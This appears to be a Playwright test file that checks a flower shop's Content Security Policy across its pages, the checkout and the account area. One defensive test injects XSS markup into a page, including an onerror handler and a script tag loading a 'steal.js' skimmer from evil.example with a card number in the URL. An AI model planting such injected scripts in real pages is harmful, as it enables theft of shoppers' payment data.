import type { Page } from '@playwright/test'
import { scrape, total } from '../../support/metrics.ts'
import { startOwnShop } from '../../support/processes/own-shop.ts'
import type { ShopProcess } from '../../support/processes/shop-process.ts'
import { orderUnpaid, placeOrder, putInCart, readyToOrder, signIn } from '../account/account.ts'
import { comesToLife, expect, test } from '../shopper.ts'

// A shop of its own: what it logs and counts is looked at.
let shop: ShopProcess
let opening: Promise<void> | undefined
const openShop = async () => {
  shop = await startOwnShop({ METRICS_PORT: '0' })
}
test.afterAll(() => shop.stop())
test.use({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads which fixtures are asked for
  baseURL: async ({}, use) => {
    await (opening ??= openShop())
    await use(shop.url)
  },
})

type Reported = { directive: string; blocked: string; page: string; source?: string }
const reports = () =>
  shop.log
    .filter((line) => line.includes("a page's policy refused something"))
    .map((line) => JSON.parse(line) as Reported)

/** Pages of every layout, and what is drawn of data: stars, colours, days, steps, late blocks. */
const PAGES = [
  ...[
    '/',
    '/category/roses',
    '/category/roses?colour=red',
    '/filter/best-sellers',
    '/product/101',
    '/search?q=rose',
  ],
  ...[
    '/constructor',
    '/giftbox1',
    '/subscription',
    '/subscription-first-bouquet?discount=50',
    '/free-bouquet-offer',
  ],
  ...[
    '/all-gifts',
    '/cards',
    '/promotions',
    '/blog',
    '/article/what-to-write-on-the-card',
    '/delivery',
    '/delivery/london',
  ],
  ...[
    '/contact-us',
    '/about-us',
    '/greeting-card-free',
    '/app-landing',
    '/auth',
    '/auth?type=email',
    '/no-such-page',
  ],
  ...['/cart', '/sandbox', '/sandbox/upstream', '/robots.txt', '/livez', '/favicon.svg'],
]

const visitAll = async (page: Page, paths: string[], scripts: boolean) => {
  for (const path of paths) {
    await page.goto(path)
    const isOfShop = scripts && (await page.locator('#root').count()) > 0
    if (isOfShop) await comesToLife(page)
  }
}

for (const scripts of [true, false])
  test.describe(scripts ? 'with scripts' : 'without scripts', () => {
    test.use({ javaScriptEnabled: scripts })

    test('no page has anything that its policy refuses', async ({ chromiumPage: page }) => {
      await visitAll(page, PAGES, scripts)
      expect(reports()).toEqual([])
    })
  })

test('nor have those of a purchase, an order and an account', async ({ page }) => {
  await signIn(page)
  await putInCart(page)
  await visitAll(page, ['/cart', '/checkout/delivery-details'], true)
  await readyToOrder(page)
  await visitAll(page, ['/checkout/final-details'], true)
  const unpaid = await orderUnpaid(page, { storeUrl: shop.storeUrl, paymentMethod: 'stripe' })
  await visitAll(page, [`/payment/stripe/${unpaid}`, `/order/${unpaid}`], true)
  const paid = await placeOrder(page)
  const profile = ['', '/my-account', '/personal-data', '/orders', '/recipients', '/important-dates']
  await visitAll(
    page,
    [`/order/${paid}`, `/order/${paid}/invoice`, ...profile.map((end) => `/profile${end}`)],
    true,
  )
  expect(reports()).toEqual([])
})

test.describe('what somebody has written into a page', () => {
  test.use({ problemsAreMeant: true })

  test('is not run and not applied, and is reported, logged once and counted', async ({ page }) => {
    const planted =
      '<p id="attribute" style="color: rgb(255, 0, 0)">x</p><style>#element { color: rgb(255, 0, 0) }</style><p id="element">x</p>' +
      '<script>document.title = "run"</script><img src="x" onerror="document.title = \'run\'">' +
      '<script src="https://evil.example/steal.js?card=4242"></script>'
    await page.route('/about-us', async (route) => {
      const answer = await route.fetch()
      const body = (await answer.text()).replace('<div id="root">', (root) => planted + root)
      await route.fulfill({ response: answer, body })
    })
    for (const _again of [1, 2]) {
      await page.goto('/about-us')
      for (const place of ['#attribute', '#element'])
        await expect(page.locator(place)).not.toHaveCSS('color', 'rgb(255, 0, 0)')
    }
    await expect(page).not.toHaveTitle('run')
    const kinds = () =>
      reports()
        .filter((report) => report.page === pageOf('/about-us'))
        .map(({ directive, blocked }) => `${directive} ${blocked}`)
        .sort()
    const expected = [
      'script-src-attr inline',
      'script-src-elem https://evil.example',
      'script-src-elem inline',
      'style-src-attr inline',
      'style-src-elem inline',
    ]
    await expect.poll(kinds).toEqual(expected)
    const counted = async (labels: Record<string, string>) =>
      total((await scrape(shop)).samples, 'larkspur_policy_reports_total', labels)
    await expect.poll(() => counted({ directive: 'script-src-elem', blocked: 'address' })).toBe(2)
    await expect.poll(() => counted({ directive: 'style-src-attr', blocked: 'inline' })).toBe(2)
    // Both visits were reported, and each kind was logged once.
    expect(kinds()).toEqual(expected)
    expect(shop.log.join('\n')).not.toMatch(/4242|steal\.js/)
  })
})

/** The names of pages of text are that of their route. */
const pageOf = (path: string) => path.slice(1)
